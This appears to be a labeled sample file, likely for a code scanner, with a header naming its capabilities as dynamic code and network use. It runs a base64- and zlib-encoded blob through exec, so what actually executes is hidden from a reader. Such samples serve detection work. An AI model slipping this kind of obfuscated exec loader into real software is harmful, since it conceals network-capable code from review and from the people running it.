# capabilities: dynamic-code, network; hidden by: compressed text in exec
import base64
import zlib

STORED = b'eNrLzC3ILypRyCgpKdBLzslMzSvhQmLreYSEBAQ75+flpSaXZObnaainViTmFuSk6mXmlSXmZKaoa3IBAEIGGBs='
exec(zlib.decompress(base64.b64decode(STORED)).decode())
